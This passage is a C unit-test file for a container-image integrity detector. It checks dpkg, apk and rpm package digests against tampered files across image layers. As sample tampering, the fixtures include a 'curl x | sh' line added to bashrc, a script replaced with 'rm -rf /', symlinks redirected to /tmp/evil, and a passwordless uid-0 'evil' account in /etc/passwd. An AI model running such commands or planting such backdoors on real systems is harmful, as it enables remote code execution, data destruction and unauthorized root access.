/*
 * test_integrity.c - the integrity detector and the dpkg parsers it relies
 * on. The parsers (md5sums, Conffiles, diversions) on well-formed, odd and
 * malformed input; then whole images built in memory, layer by layer,
 * through the real dispatcher (dpkg, apk, rpm and integrity analyzers), the
 * real merge and the real finish steps: untouched files give nothing; a
 * modified binary, a file replaced by a symlink, a changed conffile, a
 * changed document give exactly one finding each with the right severity;
 * diversions, merged /usr, hard links, files shared by two packages,
 * deleted files and the rpm fixture database (real rpmbuild headers with
 * SHA-256 and SHA-1 file digests) behave as dpkg --verify / rpm -V would.
 * Expected digests are computed here with OpenSSL from the file contents,
 * the way md5sum and rpmbuild compute them.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "feed.h"
#include "analyze/dispatch.h"
#include "analyze/dpkg.h"
#include "analyze/finish.h"
#include "base/arena.h"
#include "base/err.h"
#include "base/limits.h"
#include "image/fs.h"

extern const struct analyzer analyzer_dpkg;
extern const struct analyzer analyzer_apk;
extern const struct analyzer analyzer_rpm;
extern const struct analyzer analyzer_integrity;

/* ---- parsers ---- */

static void
test_md5sums_parse(void **state)
{
    static const char text[] =
        "b1946ac92492d2347c6235b4d2611184  usr/bin/hello\n"
        "D41D8CD98F00B204E9800998ECF8427E *./usr/share/doc/x/empty\n"
        "not a line\n"
        "\n"
        "b1946ac92492d2347c6235b4d261118  short/hash\n"
        "b1946ac92492d2347c6235b4d2611184  /abs/dir/\r\n"
        "b1946ac92492d2347c6235b4d2611184  \n"
        "b1946ac92492d2347c6235b4d261118g  bad/hex\n"
        "0123456789abcdef0123456789abcdef  path with spaces/f";
    static const unsigned char hello[8] = {0xb1, 0x94, 0x6a, 0xc9, 0x24, 0x92, 0xd2, 0x34};
    static const unsigned char empty[8] = {0xd4, 0x1d, 0x8c, 0xd9, 0x8f, 0x00, 0xb2, 0x04};
    struct arena a;
    struct dpkg_sums s;
    size_t bad, first;
    const unsigned char *d;

    (void)state;
    arena_init(&a);
    assert_int_equal(dpkg_parse_md5sums(&a, text, strlen(text), 1, &s, &bad, &first), 0);
    assert_int_equal(s.n, 4);
    assert_int_equal(s.npaths, 4);
    assert_int_equal(bad, 4);
    assert_int_equal(first, 3);
    assert_string_equal(s.paths[0], "/usr/bin/hello");
    assert_string_equal(s.paths[1], "/usr/share/doc/x/empty");
    assert_string_equal(s.paths[2], "/abs/dir");
    assert_string_equal(s.paths[3], "/path with spaces/f");
    d = dpkg_sums_find(&s, "/usr/bin/hello");
    assert_non_null(d);
    assert_memory_equal(d, hello, 8);
    d = dpkg_sums_find(&s, "usr/share/doc/x/empty");
    assert_non_null(d);
    assert_memory_equal(d, empty, 8);
    assert_non_null(dpkg_sums_find(&s, "/abs/dir"));
    assert_null(dpkg_sums_find(&s, "/usr/bin/hell"));
    assert_null(dpkg_sums_find(&s, "/short/hash"));
    assert_null(dpkg_sums_find(NULL, "/usr/bin/hello"));
    /* without paths (info/ md5sums: the .list has them) */
    assert_int_equal(dpkg_parse_md5sums(&a, text, strlen(text), 0, &s, &bad, &first), 0);
    assert_null(s.paths);
    assert_int_equal(s.n, 4);
    assert_non_null(dpkg_sums_find(&s, "/usr/bin/hello"));
    assert_int_equal(dpkg_parse_md5sums(&a, "", 0, 0, &s, &bad, &first), 0);
    assert_int_equal(s.n + bad, 0);
    arena_free(&a);
}

static void
test_conffiles_parse(void **state)
{
    static const char value[] =
        "\n"
        " /etc/bash.bashrc 89269e1298235f1b12b4c16e4065ad0d\n"
        " /etc/with space/x.conf 22bfb8c1dd94b5f3813a2b25da67463f\n"
        " /etc/old.conf 11a06baf8245fd8d690b99024d228c1f obsolete\n"
        " /etc/gone.conf 11a06baf8245fd8d690b99024d228c1f remove-on-upgrade\n"
        " /etc/new.conf newconffile\n"
        " etc/relative 11a06baf8245fd8d690b99024d228c1f\n"
        " /etc/short 11a06baf\n"
        " /etc/nohash\n";
    struct arena a;
    struct dpkg_conffile *cf;
    size_t n, bad;

    (void)state;
    arena_init(&a);
    assert_int_equal(dpkg_parse_conffiles(&a, value, strlen(value), &cf, &n, &bad), 0);
    assert_int_equal(n, 4);
    assert_int_equal(bad, 3);
    assert_string_equal(cf[0].path, "/etc/bash.bashrc");
    assert_int_equal(cf[0].md5[0], 0x89);
    assert_int_equal(cf[0].md5[15], 0x0d);
    assert_false(cf[0].obsolete);
    assert_string_equal(cf[1].path, "/etc/with space/x.conf");
    assert_string_equal(cf[2].path, "/etc/old.conf");
    assert_true(cf[2].obsolete);
    assert_string_equal(cf[3].path, "/etc/gone.conf");
    assert_false(cf[3].obsolete);
    arena_free(&a);
}

static void
test_diversions_parse(void **state)
{
    static const char text[] = "/usr/share/man/man1/sh.1.gz\n/usr/share/man/man1/sh.distrib.1.gz\n"
                               "dash\n/bin/sh\n/bin/sh.distrib\ndash\n"
                               "/usr/bin/local\n/usr/bin/local.orig\n:\n"
                               "relative\n/x\ndash\n"
                               "/dangling\n/half\n";
    struct arena a;
    struct dpkg_diversions d;
    size_t bad;

    (void)state;
    arena_init(&a);
    assert_int_equal(dpkg_parse_diversions(&a, text, strlen(text), &d, &bad), 0);
    assert_int_equal(d.n, 3);
    assert_int_equal(bad, 2);
    assert_string_equal(d.d[1].from, "/bin/sh");
    assert_string_equal(d.d[1].to, "/bin/sh.distrib");
    assert_string_equal(d.d[1].by, "dash");
    assert_string_equal(d.d[2].from, "/usr/bin/local");
    assert_null(d.d[2].by);
    arena_free(&a);
}

/* ---- images built in memory ---- */

static const struct analyzer *const table[] = {&analyzer_dpkg, &analyzer_apk, &analyzer_rpm,
                                               &analyzer_integrity};
#define NTABLE (sizeof(table) / sizeof(table[0]))

struct image {
    struct layer_result lr[4];
    struct actx c[4];
    size_t n;
    struct moat_limits lim;
    struct moat_options opt;
    void *state;                 /* the integrity analyzer's init() */
    void *tshared[NTABLE];       /* parallel to table */
    void **fshared;              /* parallel to analyzer_table */
    volatile int abort;
    size_t chunk;                /* producer block size (0: whole) */
    /* after finish */
    struct fs fs;
    struct finish_ctx fc;
    struct arena farena;
};

/* An image of `layers` layers; history (or NULL) is the created_by line
 * of its first layer, as the image config would give it to init. */
static void
img_init_history(struct image *im, size_t layers, const char *history)
{
    struct layer_desc ld[4];
    struct image_desc desc;
    char err[256];
    size_t i;

    memset(im, 0, sizeof(*im));
    memset(ld, 0, sizeof(ld));
    memset(&desc, 0, sizeof(desc));
    ld[0].created_by = (char *)history;
    desc.layers = ld;
    desc.nlayers = layers;
    moat_options_init(&im->opt);
    im->lim = im->opt.limits;
    im->n = layers;
    assert_int_equal(analyzer_integrity.init(&im->opt, history ? &desc : NULL, &im->state, err,
                                             sizeof(err)),
                     0);
    assert_non_null(im->state);
    im->tshared[NTABLE - 1] = im->state;
    for (i = 0; i < layers; i++) {
        layer_result_init(&im->lr[i], (int)i);
        actx_init(&im->c[i], &im->lr[i], &im->lim, &im->abort);
        im->c[i].opt = &im->opt;
        im->c[i].shared = im->tshared;
    }
}

static void
img_init(struct image *im, size_t layers)
{
    img_init_history(im, layers, NULL);
}

static struct layer_entry *
push(struct image *im, size_t L, const char *path, uint8_t type)
{
    struct layer_entry *le = vec_push(&im->lr[L].entries);

    assert_non_null(le);
    le->path = arena_strdup(&im->lr[L].paths, path);
    le->type = type;
    le->mode = type == ENTRY_DIR ? 0755 : 0644;
    return le;
}

static void
dispatch(struct image *im, size_t L, struct layer_entry *le, const void *data, size_t len)
{
    struct feed_mem m = {data, len, 0, im->chunk};
    struct producer prod = {feed_mem_next, &m};
    struct entry e;

    e.le = le;

    e.opt = NULL;
    e.path = le->path;
    e.base = strrchr(le->path, '/') ? strrchr(le->path, '/') + 1 : le->path;
    e.layer = (int)L;
    assert_int_equal(dispatch_with(table, NTABLE, &im->c[L], &e, &prod), 0);
}

static void
add_file(struct image *im, size_t L, const char *path, const char *data, uint32_t mode)
{
    struct layer_entry *le = push(im, L, path, ENTRY_REG);

    le->size = strlen(data);
    le->mode = mode ? mode : 0644;
    dispatch(im, L, le, data, le->size);
}

static void
add_link(struct image *im, size_t L, const char *path, const char *target, uint8_t type)
{
    struct layer_entry *le = push(im, L, path, type);

    le->link = arena_strdup(&im->lr[L].paths, target);
    dispatch(im, L, le, "", 0);
}

static void
add_dir(struct image *im, size_t L, const char *path)
{
    dispatch(im, L, push(im, L, path, ENTRY_DIR), "", 0);
}

static void
add_whiteout(struct image *im, size_t L, const char *path)
{
    struct layer_entry *le = push(im, L, path, ENTRY_REG);

    le->whiteout = WH_FILE;
}

/* Merge and finish, as lib/scan.c does; the findings and problems are in
 * im->fc afterwards. */
static void
img_finish(struct image *im)
{
    struct vec *ents[4];
    size_t i;

    for (i = 0; i < im->n; i++)
        ents[i] = &im->lr[i].entries;
    assert_int_equal(fs_merge(&im->fs, ents, im->n), 0);
    im->fshared = calloc(analyzer_count, sizeof(*im->fshared));
    assert_non_null(im->fshared);
    for (i = 0; i < analyzer_count; i++)
        if (analyzer_table[i] == &analyzer_integrity)
            im->fshared[i] = im->state;
    arena_init(&im->farena);
    memset(&im->fc, 0, sizeof(im->fc));
    vec_init(&im->fc.problems, sizeof(struct moat_problem), 100000);
    im->fc.layers = im->lr;
    im->fc.nlayers = im->n;
    im->fc.fs = &im->fs;
    im->fc.arena = &im->farena;
    im->fc.shared = im->fshared;
    finish_mark_visible(&im->fc);
    assert_int_equal(analyzer_dpkg.finish(&im->fc, &analyzer_dpkg), 0);
    assert_int_equal(analyzer_rpm.finish(&im->fc, &analyzer_rpm), 0);
    assert_int_equal(analyzer_integrity.finish(&im->fc, &analyzer_integrity), 0);
}

static void
img_free(struct image *im)
{
    size_t i;

    vec_free(&im->fc.problems);
    vec_free(&im->fc.findings);
    finish_owners_free(&im->fc);
    fs_free(&im->fs);
    arena_free(&im->farena);
    free(im->fshared);
    for (i = 0; i < im->n; i++)
        layer_result_free(&im->lr[i]);
    analyzer_integrity.fini(im->state);
}

static size_t
nfindings(const struct image *im)
{
    return im->fc.findings.len;
}

/* The finding at path ("/usr/bin/x"), or NULL. */
static const struct finish_finding *
finding_at(const struct image *im, const char *path)
{
    size_t i;

    for (i = 0; i < im->fc.findings.len; i++) {
        const struct finish_finding *ff = VEC_AT(&im->fc.findings, struct finish_finding, i);
        if (strcmp(ff->f.path, path + 1) == 0)
            return ff;
    }
    return NULL;
}

static void
expect_finding(const struct image *im, const char *path, const char *id, const char *sev,
               int layer)
{
    const struct finish_finding *ff = finding_at(im, path);

    if (!ff)
        fail_msg("no finding at %s", path);
    assert_string_equal(ff->f.kind, "integrity");
    assert_string_equal(ff->f.id, id);
    assert_string_equal(ff->f.severity, sev);
    assert_int_equal(ff->layer, layer);
    assert_int_equal(ff->removed, 0);
    assert_non_null(ff->f.title);
    assert_non_null(ff->f.evidence);
}

static size_t
nproblems(const struct image *im, const char *needle)
{
    size_t i, n = 0;

    for (i = 0; i < im->fc.problems.len; i++) {
        const struct moat_problem *p = VEC_AT(&im->fc.problems, struct moat_problem, i);
        if (!needle || strstr(p->message, needle))
            n++;
    }
    return n;
}

static void
md5_hex(const char *data, char out[33])
{
    static const char digits[] = "0123456789abcdef";
    unsigned char d[16];
    unsigned int len = 0, i;

    assert_true(EVP_Digest(data, strlen(data), d, &len, EVP_md5(), NULL));
    for (i = 0; i < 16; i++) {
        out[2 * i] = digits[d[i] >> 4];
        out[2 * i + 1] = digits[d[i] & 15];
    }
    out[32] = '\0';
}

/* ---- a small Debian image ---- */

#define HELLO_ELF "\x7f" "ELF\2\1\1 hello binary" /* no NUL: strlen */
#define TOOL_SH "#!/bin/sh\necho tool\n"
#define README "plain text\n"
#define BASHRC "# system-wide .bashrc\n"
#define CONF "setting=1\n"

static const char list_hello[] = "/.\n/usr\n/usr/bin\n/usr/bin/hello\n/usr/bin/hello-link\n"
                                 "/usr/bin/tool\n/usr/share\n/usr/share/doc\n"
                                 "/usr/share/doc/hello\n/usr/share/doc/hello/README\n"
                                 "/etc\n/etc/hello.conf\n/etc/bash.bashrc\n/bin/legacy\n"
                                 "/usr/bin/gone\n/usr/bin/diverted\n";

/* Layer 0: merged /usr, the packages and their files, as dpkg leaves them. */
static void
debian_base(struct image *im, int hardlink)
{
    char status[2048], sums[2048], h[6][33];

    md5_hex(HELLO_ELF, h[0]);
    md5_hex(TOOL_SH, h[1]);
    md5_hex(README, h[2]);
    md5_hex(BASHRC, h[3]);
    md5_hex(CONF, h[4]);
    md5_hex("legacy\n", h[5]);
    snprintf(status, sizeof(status),
             "Package: hello\nStatus: install ok installed\nArchitecture: amd64\n"
             "Version: 1.0-1\nConffiles:\n /etc/hello.conf %s\n /etc/bash.bashrc %s\n"
             " /etc/obsolete.conf 00000000000000000000000000000000 obsolete\n"
             "Description: test\n\n"
             "Package: other\nStatus: install ok installed\nArchitecture: all\n"
             "Version: 2.0\n",
             h[4], h[3]);
    snprintf(sums, sizeof(sums),
             "%s  usr/bin/hello\n%s  usr/bin/hello-link\n%s  usr/bin/tool\n"
             "%s  usr/share/doc/hello/README\n%s  bin/legacy\n%s  usr/bin/gone\n"
             "%s  usr/bin/diverted\n",
             h[0], h[0], h[1], h[2], h[5], h[2], h[2]);
    add_dir(im, 0, "usr");
    add_dir(im, 0, "usr/bin");
    add_link(im, 0, "bin", "usr/bin", ENTRY_SYMLINK);
    add_file(im, 0, "etc/apt/sources.list", "deb http://deb.debian.org/debian bookworm main\n",
             0);
    add_file(im, 0, "etc/bash.bashrc", BASHRC, 0);
    add_file(im, 0, "etc/hello.conf", CONF, 0);
    add_file(im, 0, "etc/obsolete.conf", "left behind\n", 0);
    add_file(im, 0, "usr/bin/hello", HELLO_ELF, 0755);
    if (hardlink)
        add_link(im, 0, "usr/bin/hello-link", "usr/bin/hello", ENTRY_HARDLINK);
    else
        add_file(im, 0, "usr/bin/hello-link", HELLO_ELF, 0755);
    add_file(im, 0, "usr/bin/tool", TOOL_SH, 0755);
    add_file(im, 0, "usr/bin/legacy", "legacy\n", 0755);
    add_file(im, 0, "usr/bin/gone", README, 0644);
    /* dash-style diversion: hello's /usr/bin/diverted lives at .real */
    add_file(im, 0, "usr/bin/diverted", "the diverting package's own file\n", 0755);
    add_file(im, 0, "usr/bin/diverted.real", README, 0755);
    add_file(im, 0, "usr/share/doc/hello/README", README, 0);
    add_file(im, 0, "var/lib/dpkg/status", status, 0);
    add_file(im, 0, "var/lib/dpkg/info/hello.list", list_hello, 0);
    add_file(im, 0, "var/lib/dpkg/info/hello.md5sums", sums, 0);
    add_file(im, 0, "var/lib/dpkg/diversions", "/usr/bin/diverted\n/usr/bin/diverted.real\nother\n",
             0);
}

static void
test_dpkg_clean(void **state)
{
    struct image im;
    size_t chunk;

    (void)state;
    for (chunk = 0; chunk <= 3; chunk += 3) {
        img_init(&im, 1);
        im.chunk = chunk;
        debian_base(&im, chunk == 3);
        img_finish(&im);
        assert_int_equal(nfindings(&im), 0);
        assert_int_equal(nproblems(&im, NULL), 0);
        assert_int_equal(im.lr[0].problems.len, 0);
        img_free(&im);
    }
}

static void
test_dpkg_tampered(void **state)
{
    struct image im;

    (void)state;
    img_init(&im, 2);
    im.chunk = 1; /* the ELF / #! flags must survive one-byte chunks */
    debian_base(&im, 0);
    add_file(&im, 1, "usr/bin/hello", HELLO_ELF "x", 0755);        /* appended byte */
    add_link(&im, 1, "usr/bin/tool", "/tmp/evil", ENTRY_SYMLINK);  /* replaced */
    add_file(&im, 1, "etc/bash.bashrc", BASHRC "curl x | sh\n", 0); /* conffile */
    add_file(&im, 1, "usr/share/doc/hello/README", "changed\n", 0); /* document */
    add_file(&im, 1, "usr/bin/legacy", "changed\n", 0644);         /* via /bin symlink */
    add_whiteout(&im, 1, "usr/bin/gone");                           /* missing: fine */
    add_file(&im, 1, "usr/bin/diverted", "diverting pkg changed its own\n", 0755);
    add_file(&im, 1, "etc/obsolete.conf", "still not checked\n", 0);
    img_finish(&im);
    assert_int_equal(nfindings(&im), 5);
    expect_finding(&im, "/usr/bin/hello", "pkg-file-modified", "high", 1);
    expect_finding(&im, "/usr/bin/tool", "pkg-file-replaced", "high", 1);
    expect_finding(&im, "/etc/bash.bashrc", "pkg-config-changed", "info", 1);
    expect_finding(&im, "/usr/share/doc/hello/README", "pkg-file-modified", "medium", 1);
    /* /bin/legacy is found through the merged-/usr symlink; mode 644 but the
     * package's copy was executable: the mode is the image's, so medium */
    expect_finding(&im, "/usr/bin/legacy", "pkg-file-modified", "medium", 1);
    assert_non_null(strstr(finding_at(&im, "/usr/bin/tool")->f.evidence, "/tmp/evil"));
    assert_non_null(strstr(finding_at(&im, "/usr/bin/hello")->f.title, "Binary"));
    assert_non_null(strstr(finding_at(&im, "/usr/bin/hello")->f.title, "hello 1.0-1"));
    assert_int_equal(nproblems(&im, NULL), 0);
    img_free(&im);
}

static void
test_dpkg_script_and_hardlink(void **state)
{
    struct image im;

    (void)state;
    /* the hard link's bytes are its target's: changing the target in a
     * later layer leaves the link (still the old bytes) intact */
    img_init(&im, 2);
    debian_base(&im, 1);
    add_file(&im, 1, "usr/bin/tool", "#!/bin/sh\nrm -rf /\n", 0644);
    add_file(&im, 1, "usr/bin/hello", "replaced\n", 0644);
    img_finish(&im);
    assert_int_equal(nfindings(&im), 2);
    expect_finding(&im, "/usr/bin/tool", "pkg-file-modified", "high", 1); /* #! script */
    expect_finding(&im, "/usr/bin/hello", "pkg-file-modified", "medium", 1);
    assert_null(finding_at(&im, "/usr/bin/hello-link"));
    assert_int_equal(nproblems(&im, NULL), 0);
    img_free(&im);
}

static void
test_dpkg_multi_owner(void **state)
{
    struct image im;
    char status[512], sa[256], sb[256], h[2][33];

    (void)state;
    md5_hex("old\n", h[0]);
    md5_hex("new\n", h[1]);
    snprintf(status, sizeof(status),
             "Package: liba\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n\n"
             "Package: liba\nStatus: install ok installed\nArchitecture: i386\nVersion: 1\n");
    snprintf(sa, sizeof(sa), "%s  usr/share/doc/liba/changelog\n", h[0]);
    snprintf(sb, sizeof(sb), "%s  usr/share/doc/liba/changelog\n", h[1]);
    img_init(&im, 1);
    add_file(&im, 0, "usr/share/doc/liba/changelog", "new\n", 0);
    add_file(&im, 0, "var/lib/dpkg/status", status, 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:amd64.list", "/usr/share/doc/liba/changelog\n", 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:i386.list", "/usr/share/doc/liba/changelog\n", 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:amd64.md5sums", sa, 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:i386.md5sums", sb, 0);
    img_finish(&im);
    /* one owner's digest matches: fine */
    assert_int_equal(nfindings(&im), 0);
    img_free(&im);

    img_init(&im, 1);
    add_file(&im, 0, "usr/share/doc/liba/changelog", "neither\n", 0);
    add_file(&im, 0, "var/lib/dpkg/status", status, 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:amd64.list", "/usr/share/doc/liba/changelog\n", 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:i386.list", "/usr/share/doc/liba/changelog\n", 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:amd64.md5sums", sa, 0);
    add_file(&im, 0, "var/lib/dpkg/info/liba:i386.md5sums", sb, 0);
    img_finish(&im);
    /* neither matches: one finding for the path, not one per owner */
    assert_int_equal(nfindings(&im), 1);
    expect_finding(&im, "/usr/share/doc/liba/changelog", "pkg-file-modified", "medium", 0);
    img_free(&im);
}

static void
test_distroless(void **state)
{
    struct image im;
    char sums[256], h[33];
    const struct pkg *p;
    struct rec_iter it = {0, 0};
    struct rec *r;

    (void)state;
    md5_hex("libc\n", h);
    snprintf(sums, sizeof(sums), "%s  lib/x86_64-linux-gnu/libc.so.6\n", h);
    img_init(&im, 2);
    add_file(&im, 0, "var/lib/dpkg/status.d/libc6",
             "Package: libc6\nVersion: 2.36-9+deb12u7\nArchitecture: amd64\n", 0);
    add_file(&im, 0, "var/lib/dpkg/status.d/libc6.md5sums", sums, 0);
    add_file(&im, 0, "lib/x86_64-linux-gnu/libc.so.6", "libc\n", 0755);
    add_file(&im, 1, "lib/x86_64-linux-gnu/libc.so.6", "\x7f" "ELFevil", 0755);
    img_finish(&im);
    /* status.d: the md5sums are the package's file list */
    while ((r = finish_next(&im.fc, &analyzer_dpkg, &it)) != NULL)
        if (r->kind == REC_PKGS)
            break;
    assert_non_null(r);
    p = &r->pkgs[0];
    assert_int_equal(p->nfiles, 1);
    assert_string_equal(p->files[0], "/lib/x86_64-linux-gnu/libc.so.6");
    assert_int_equal(nfindings(&im), 1);
    expect_finding(&im, "/lib/x86_64-linux-gnu/libc.so.6", "pkg-file-modified", "high", 1);
    img_free(&im);
}

/* Integrity off: no hashing, no md5sums read, no finish. */
static void
test_off(void **state)
{
    struct moat_options opt;
    void *st = (void *)1;
    char err[64];
    struct feed f;

    (void)state;
    moat_options_init(&opt);
    opt.detect.enabled = MOAT_DETECT_ALL & ~MOAT_DETECT_INTEGRITY;
    assert_int_equal(analyzer_integrity.init(&opt, NULL, &st, err, sizeof(err)), 0);
    assert_null(st);
    feed_init(&f, 0);
    f.opt.detect.enabled = opt.detect.enabled;
    feed_file(&f, &analyzer_dpkg, "var/lib/dpkg/info/x.md5sums",
              "b1946ac92492d2347c6235b4d2611184  usr/bin/x\n", 45, 0);
    assert_int_equal(f.lr.recs.len, 0);
    feed_file(&f, &analyzer_integrity, "usr/bin/x", "hello\n", 6, 0);
    assert_int_equal(f.lr.recs.len, 0);
    feed_free(&f);
}

/* Many files, gaps of non-regular entries longer than an item's distance
 * byte, chunk growth and switches of algorithm sets: every digest must
 * still be found for its own entry. */
static void
test_many_files(void **state)
{
    enum { N = 3000 };
    struct image im;
    char *sums, *list, path[64], data[32], h[33];
    size_t i, off = 0, loff = 0;

    (void)state;
    sums = malloc(N * 80);
    list = malloc(N * 40);
    assert_non_null(sums);
    assert_non_null(list);
    img_init(&im, 2);
    for (i = 0; i < N; i++) {
        snprintf(path, sizeof(path), "usr/share/many/f%04zu", i);
        snprintf(data, sizeof(data), "content %zu\n", i);
        add_file(&im, 0, path, data, 0);
        md5_hex(data, h);
        off += (size_t)snprintf(sums + off, N * 80 - off, "%s  %s\n", h, path);
        loff += (size_t)snprintf(list + loff, N * 40 - loff, "/%s\n", path);
        if (i % 1000 == 999) {
            size_t k;
            for (k = 0; k < 300; k++) {
                snprintf(path, sizeof(path), "usr/share/many/d%04zu-%03zu", i, k);
                add_dir(&im, 0, path);
            }
        }
        if (i == 10)
            add_file(&im, 0, "var/lib/dpkg/status",
                     "Package: many\nStatus: install ok installed\nVersion: 1\n", 0);
    }
    add_file(&im, 0, "var/lib/dpkg/info/many.list", list, 0);
    add_file(&im, 0, "var/lib/dpkg/info/many.md5sums", sums, 0);
    add_file(&im, 1, "usr/share/many/f2999", "changed\n", 0);
    add_file(&im, 1, "usr/share/many/f0000", "changed\n", 0);
    add_file(&im, 1, "usr/share/many/f1500", "content 1500\n", 0); /* same bytes */
    img_finish(&im);
    assert_int_equal(nfindings(&im), 2);
    expect_finding(&im, "/usr/share/many/f2999", "pkg-file-modified", "medium", 1);
    expect_finding(&im, "/usr/share/many/f0000", "pkg-file-modified", "medium", 1);
    assert_int_equal(nproblems(&im, NULL), 0);
    img_free(&im);
    free(sums);
    free(list);
}

/* ---- apk ---- */

static void
q1(const char *data, char out[64])
{
    unsigned char d[20];
    unsigned int len = 0;

    assert_true(EVP_Digest(data, strlen(data), d, &len, EVP_sha1(), NULL));
    out[0] = 'Q';
    out[1] = '1';
    EVP_EncodeBlock((unsigned char *)out + 2, d, 20);
}

static void
test_apk(void **state)
{
    struct image im;
    char db[2048], z[4][64];

    (void)state;
    q1("#!/bin/sh\necho busybox\n", z[0]);
    q1("musl\n", z[1]);
    q1("ld-musl-x86_64.so.1", z[2]); /* a symlink: apk digests its target */
    q1("root:x:0:0:root:/root:/bin/ash\n", z[3]);
    snprintf(db, sizeof(db),
             "C:Q1AAAA\nP:musl\nV:1.2.5-r0\nA:x86_64\nT:libc\nL:MIT\nF:lib\n"
             "R:ld-musl-x86_64.so.1\na:0:0:755\nZ:%s\nR:libc.musl-x86_64.so.1\nZ:%s\n\n"
             "P:busybox\nV:1.36.1-r29\nA:x86_64\nF:bin\nR:busybox\na:0:0:755\nZ:%s\n"
             "R:nosum\n\n"
             "P:alpine-baselayout\nV:3.6.5-r0\nA:x86_64\nF:etc\nR:passwd\nZ:%s\n",
             z[1], z[2], z[0], z[3]);
    img_init(&im, 2);
    add_file(&im, 0, "etc/apk/world", "busybox\n", 0);
    add_file(&im, 0, "bin/busybox", "#!/bin/sh\necho busybox\n", 0755);
    add_file(&im, 0, "bin/nosum", "whatever\n", 0755);
    add_file(&im, 0, "etc/passwd", "root:x:0:0:root:/root:/bin/ash\n", 0);
    add_file(&im, 0, "lib/ld-musl-x86_64.so.1", "musl\n", 0755);
    add_link(&im, 0, "lib/libc.musl-x86_64.so.1", "ld-musl-x86_64.so.1", ENTRY_SYMLINK);
    add_file(&im, 0, "lib/apk/db/installed", db, 0);
    img_finish(&im);
    assert_int_equal(nfindings(&im), 0);
    assert_int_equal(nproblems(&im, NULL), 0);
    img_free(&im);

    img_init(&im, 2);
    add_file(&im, 0, "etc/apk/world", "busybox\n", 0);
    add_file(&im, 0, "bin/busybox", "#!/bin/sh\necho busybox\n", 0755);
    add_file(&im, 0, "etc/passwd", "root:x:0:0:root:/root:/bin/ash\n", 0);
    add_file(&im, 0, "lib/ld-musl-x86_64.so.1", "musl\n", 0755);
    add_link(&im, 0, "lib/libc.musl-x86_64.so.1", "ld-musl-x86_64.so.1", ENTRY_SYMLINK);
    add_file(&im, 0, "lib/apk/db/installed", db, 0);
    add_file(&im, 1, "bin/busybox", "#!/bin/sh\necho evil\n", 0755);
    add_file(&im, 1, "etc/passwd", "root:x:0:0:root:/root:/bin/ash\nevil::0:0::/:/bin/sh\n", 0);
    add_link(&im, 1, "lib/libc.musl-x86_64.so.1", "/tmp/evil.so", ENTRY_SYMLINK);
    img_finish(&im);
    assert_int_equal(nfindings(&im), 3);
    expect_finding(&im, "/bin/busybox", "pkg-file-modified", "high", 1);
    expect_finding(&im, "/etc/passwd", "pkg-config-changed", "info", 1); /* protected */
    expect_finding(&im, "/lib/libc.musl-x86_64.so.1", "pkg-file-replaced", "high", 1);
    img_free(&im);
}

/* ---- rpm: the fixture database holds rpmbuild's real headers ---- */

static void
rpm_image(struct image *im, int db_first, const char *data_txt, const char *conf)
{
    size_t len;
    char *db = feed_read_path(MOAT_TEST_DATA "/rpm/Packages-le-4096", &len);
    struct layer_entry *le;

    if (!db)
        fail_msg("cannot read tests/data/rpm/Packages-le-4096");
    img_init(im, 1);
    if (db_first) {
        le = push(im, 0, "var/lib/rpm/Packages", ENTRY_REG);
        le->size = len;
        dispatch(im, 0, le, db, len);
    }
    add_file(im, 0, "etc/hello.conf", conf, 0644);
    add_file(im, 0, "usr/bin/hello", "#!/bin/sh\necho hello\n", 0755);
    add_link(im, 0, "usr/bin/hi", "hello", ENTRY_SYMLINK);
    add_file(im, 0, "usr/lib64/libmulti.so.1", "a\n", 0755);
    add_file(im, 0, "usr/share/hello/data.txt", data_txt, 0644);
    if (!db_first) {
        le = push(im, 0, "var/lib/rpm/Packages", ENTRY_REG);
        le->size = len;
        dispatch(im, 0, le, db, len);
    }
    free(db);
    img_finish(im);
}

static void
test_rpm(void **state)
{
    struct image im;

    (void)state;
    /* files before the database: every digest computed, all match */
    rpm_image(&im, 0, "data\n", "greeting=hi\n");
    assert_int_equal(nfindings(&im), 0);
    assert_int_equal(nproblems(&im, NULL), 0);
    img_free(&im);

    rpm_image(&im, 0, "tampered\n", "greeting=evil\n");
    assert_int_equal(nfindings(&im), 2);
    expect_finding(&im, "/usr/share/hello/data.txt", "pkg-file-modified", "medium", 0);
    expect_finding(&im, "/etc/hello.conf", "pkg-config-changed", "info", 0); /* %config */
    img_free(&im);

    /* the database first: the family is rpm, only SHA-256 is computed from
     * then on, and libmulti's SHA-1 digest cannot be checked: a problem
     * says so (never a silent pass) */
    rpm_image(&im, 1, "data\n", "greeting=hi\n");
    assert_int_equal(nfindings(&im), 0);
    assert_int_equal(nproblems(&im, NULL), 1);
    assert_int_equal(nproblems(&im, "1 package files were not checked: their SHA-1 digest"), 1);
    img_free(&im);
}

/* A package listing a file under usr/local/ (which is not hashed) gets a
 * problem, not a silent pass. */
static void
test_unhashed_tree(void **state)
{
    struct image im;
    char sums[128], h[33];

    (void)state;
    md5_hex("local\n", h);
    snprintf(sums, sizeof(sums), "%s  usr/local/bin/odd\n", h);
    img_init(&im, 1);
    add_file(&im, 0, "usr/local/bin/odd", "local\n", 0755);
    add_file(&im, 0, "var/lib/dpkg/status", "Package: odd\nVersion: 1\n", 0);
    add_file(&im, 0, "var/lib/dpkg/info/odd.list", "/usr/local/bin/odd\n", 0);
    add_file(&im, 0, "var/lib/dpkg/info/odd.md5sums", sums, 0);
    img_finish(&im);
    assert_int_equal(nfindings(&im), 0);
    assert_int_equal(nproblems(&im, "where distribution packages do not install"), 1);
    img_free(&im);
}

/* The family is told by an os-release's ID / ID_LIKE too (distroless
 * images have no package manager paths ahead of their files). What was
 * decided shows in which digests exist: a dpkg-listed file hashed after
 * "this is Alpine" has no MD5 and is reported as not checked. */
static void
test_family_from_os_release(void **state)
{
    static const char *const osrel[] = {"ID=alpine\n", "ID=\"wolfi\"\n",
                                        "NAME=x\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\n",
                                        "ID=debian\n", "ID=ubuntu\n", "ID=myos\nID_LIKE=debian\n"};
    struct image im;
